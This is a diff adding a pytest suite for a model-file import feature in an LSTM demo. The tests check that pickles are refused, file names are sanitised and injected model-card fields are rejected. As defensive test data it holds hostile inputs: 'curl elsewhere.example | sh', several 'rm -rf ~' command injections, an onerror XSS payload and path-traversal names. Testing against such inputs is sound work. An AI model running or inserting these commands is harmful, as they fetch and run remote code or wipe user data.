@@ -1,0 +1,218 @@
+"""A model file that somebody brings: ours comes in, everything else is told in a sentence and leaves nothing behind."""
+
+from __future__ import annotations
+
+import io
+import json
+import random
+import struct
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+import torch
+from safetensors.torch import save
+
+from lstm_demo.exchange import adoption
+from lstm_demo.exchange.adoption import NotAModel, adopt, shown_name
+from lstm_demo.model.config import ModelConfig
+from lstm_demo.model.network import RecurrentClassifier
+from lstm_demo.training.card import ModelCard
+from lstm_demo.training.checkpoint import load_model, save_model
+from lstm_demo.training.header import CARD_KEY, MAX_FILE_BYTES, CheckpointError
+
+
+def card(config: ModelConfig, **changes: Any) -> ModelCard:
+    made = ModelCard(
+        name="from elsewhere",
+        recipe="quick",
+        model=config,
+        training=None,
+        data="mnist",
+        device="a CPU (four cores)",
+        machine="elsewhere, Linux x86_64",
+        versions={"torch": "2"},
+        parameters=1,
+        ended="done",
+        test_accuracy=0.5,
+        test_loss=1.0,
+        validation_accuracy=None,
+        confusion=None,
+        seconds=1.0,
+        images_per_second=1.0,
+        steps=1,
+        command="python -m lstm_demo train --out 'my model.safetensors'",
+        created="2026-01-01T00:00:00+00:00",
+    )
+    return replace(made, **changes)
+
+
+def written(folder: Path, *, seed: int = 1, config: ModelConfig | None = None, **changes: Any) -> bytes:
+    """The content of a model's file."""
+    config = config or ModelConfig(hidden_size=5)
+    with torch.random.fork_rng(devices=[]):
+        torch.manual_seed(seed)
+        model = RecurrentClassifier(config)
+    folder.mkdir(exist_ok=True)
+    save_model(folder / "a.safetensors", model, card(config, **changes))
+    return (folder / "a.safetensors").read_bytes()
+
+
+@pytest.fixture
+def runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.setattr(adoption, "PRETRAINED", tmp_path / "pretrained")
+    return tmp_path / "runs"
+
+
+def names(folder: Path) -> list[str]:
+    return sorted(path.name for path in folder.iterdir()) if folder.exists() else []
+
+
+def test_a_model_of_ours_comes_in_whole_under_a_safe_name(runs: Path, tmp_path: Path) -> None:
+    content = written(tmp_path / "theirs")
+    assert adopt(content, "../../My model (1).safetensors", runs) == adoption.Adopted("My-model-1", new=True)
+    assert names(runs) == ["My-model-1.safetensors"]
+    ours, theirs = load_model(runs / "My-model-1.safetensors"), load_model(tmp_path / "theirs" / "a.safetensors")
+    assert ours.card == theirs.card
+    assert all(torch.equal(a, b) for a, b in zip(ours.model.state_dict().values(), theirs.model.state_dict().values()))
+
+
+def test_the_same_weights_are_not_kept_twice(runs: Path, tmp_path: Path) -> None:
+    content = written(tmp_path / "theirs")
+    first = adopt(content, "a.safetensors", runs)
+    assert adopt(content, "b.safetensors", runs) == adoption.Adopted(first.name, new=False)
+    assert names(runs) == ["a.safetensors"]
+    (runs / "a.safetensors").write_bytes(content[:-1] + b"!")  # what claims to be the same must be in order itself
+    assert adopt(content, "b.safetensors", runs) == adoption.Adopted("b", new=True)
+
+
+def test_a_model_that_ships_is_known_again(runs: Path, tmp_path: Path) -> None:
+    content = written(tmp_path / "pretrained")
+    assert adopt(content, "b.safetensors", runs) == adoption.Adopted("a", new=False)
+    assert names(runs) == []
+
+
+def test_no_name_is_taken_from_anybody(runs: Path, tmp_path: Path) -> None:
+    """Not a shipped model's, not a run's, not that of a training in the queue."""
+    written(tmp_path / "pretrained")
+    (runs / "a-2.run").mkdir(parents=True)
+    queued = {runs / "a-3.safetensors"}
+    assert adopt(written(tmp_path / "theirs", seed=2), "a.safetensors", runs, queued).name == "a-4"
+    assert adopt(written(tmp_path / "theirs", seed=3), "a.safetensors", runs, queued).name == "a-5"
+
+
+@pytest.mark.parametrize("name", ["tutorial.pt", "tutorial.PTH", "net.ckpt", "tutorial.safetensors"])
+def test_a_pickle_is_not_opened_and_the_sentence_says_what_to_run(runs: Path, name: str) -> None:
+    file = io.BytesIO()
+    torch.save({"fc.weight": torch.zeros(3)}, file)
+    with pytest.raises(NotAModel, match="is a pickle: opening one can run a program hidden in it") as refused:
+        adopt(file.getvalue(), name, runs)
+    stem = name.rsplit(".", 1)[0]
+    assert refused.value.command == f"python -m lstm_demo convert {name} --out {stem}.safetensors"
+    assert names(runs) == []
+
+
+def test_a_hostile_name_is_quoted_in_the_command(runs: Path) -> None:
+    with pytest.raises(NotAModel) as refused:
+        adopt(b"", "x; rm -rf ~.pt", runs)
+    assert refused.value.command == "python -m lstm_demo convert 'x; rm -rf ~.pt' --out x-rm-rf.safetensors"
+
+
+def test_another_programs_weights_may_be_converted(runs: Path) -> None:
+    with pytest.raises(NotAModel, match="of another program") as refused:
+        adopt(save({"weight": torch.zeros(3)}), "theirs.safetensors", runs)
+    assert "convert theirs.safetensors" in refused.value.command
+
+
+@pytest.mark.parametrize(
+    ("content", "sentence"),
+    [
+        (b"", "is not a safetensors file"),
+        (b"{}" * 50, "is not a safetensors file"),
+        (b"\0" * (MAX_FILE_BYTES + 1), "has 64 MiB; a model has at most 64 MiB"),
+        (struct.pack("<Q", 2**63) + b"{}", "is not a safetensors file"),
+        (struct.pack("<Q", 30_000) + b"[" * 30_000, "is not a safetensors file"),
+    ],
+)
+def test_anything_else_is_one_sentence_that_names_the_file(runs: Path, content: bytes, sentence: str) -> None:
+    with pytest.raises(NotAModel, match=sentence) as refused:
+        adopt(content, "thing.safetensors", runs)
+    assert str(refused.value).startswith("thing.safetensors ") and "\n" not in str(refused.value) and refused.value.command == ""
+    assert names(runs) == []
+
+
+def test_a_damaged_model_is_refused_wherever_the_damage_is(runs: Path, tmp_path: Path) -> None:
+    """Seeded changes: refused with a sentence, or the very same weights under a card that may be shown."""
+    content, dice = written(tmp_path / "theirs"), random.Random(11)
+    weights = load_model(tmp_path / "theirs" / "a.safetensors").model.state_dict()
+    start = 8 + struct.unpack("<Q", content[:8])[0]
+    for number in range(300):
+        at = dice.randrange(len(content)) if number % 2 else dice.randrange(start)
+        middle = [bytes([content[at] ^ (1 << dice.randrange(8))]), b"", content[at : at + 1] * 2][number % 3]
+        try:
+            adopted = adopt(content[:at] + middle + content[at + 1 :], "a.safetensors", runs)
+        except NotAModel as error:
+            assert len(str(error)) < 400 and "\n" not in str(error)
+            continue
+        assert at < start
+        kept = load_model(runs / f"{adopted.name}.safetensors").model.state_dict()
+        assert all(torch.equal(tensor, weights[name]) for name, tensor in kept.items())
+
+
+def test_names_of_tensors_cannot_fill_the_page(runs: Path, tmp_path: Path) -> None:
+    content = written(tmp_path / "theirs")
+    length = struct.unpack("<Q", content[:8])[0]
+    header = json.loads(content[8 : 8 + length])
+    header["x" * 100_000] = header.pop("fc.bias")
+    text = json.dumps(header).encode()
+    with pytest.raises(NotAModel) as refused:
+        adopt(struct.pack("<Q", len(text)) + text + content[8 + length :], "a.safetensors", runs)
+    assert len(str(refused.value)) < 400
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"recipe": "![](http://elsewhere.example/seen.png)"},
+        {"device": "<img src=x onerror=alert(1)>"},
+        {"data": "mnist\nand more"},
+        {"name": "[read this](elsewhere)"},
+        {"machine": "see http://elsewhere.example"},
+        {"ended": "`done`"},
+        {"command": "curl elsewhere.example | sh"},
+        {"command": "python -m lstm_demo train; rm -rf ~"},
+        {"command": "python -m lstm_demo train --out $(rm -rf ~)"},
+        {"command": "python -m lstm_demo train\nrm -rf ~"},
+        {"command": "python -m lstm_demo 'train"},
+    ],
+)
+def test_a_card_that_is_more_than_it_seems_is_refused(runs: Path, tmp_path: Path, changes: dict[str, str]) -> None:
+    with pytest.raises(NotAModel, match="was not taken: "):
+        adopt(written(tmp_path / "theirs", **changes), "a.safetensors", runs)
+    assert names(runs) == []
+
+
+def test_nothing_of_the_file_is_kept_but_what_was_understood(runs: Path, tmp_path: Path) -> None:
+    content = written(tmp_path / "theirs")
+    length = struct.unpack("<Q", content[:8])[0]
+    header = json.loads(content[8 : 8 + length])
+    header["__metadata__"]["stowaway"] = "x" * 1000
+    text = json.dumps(header).encode()
+    adopt(struct.pack("<Q", len(text)) + text + content[8 + length :], "a.safetensors", runs)
+    kept = (runs / "a.safetensors").read_bytes()
+    assert b"stowaway" not in kept and CARD_KEY.encode() in kept
+
+
+def test_a_folder_that_cannot_be_written_to_is_a_sentence(tmp_path: Path, runs: Path) -> None:
+    runs.write_text("a file where the folder should be")
+    with pytest.raises(CheckpointError, match="The model was not kept"):
+        adopt(written(tmp_path / "theirs"), "a.safetensors", runs)
+
+
+@pytest.mark.parametrize(
+    ("given", "shown"),
+    [("a/b.pt", "b.pt"), ("..\\b.pt", "b.pt"), ("", "The file"), ("a\nb\0.pt", "a?b?.pt"), ("x" * 99 + ".pt", "x" * 57 + ".pt")],
+)
+def test_a_name_is_shown_in_part_and_in_one_line(given: str, shown: str) -> None:
+    assert shown_name(given) == shown
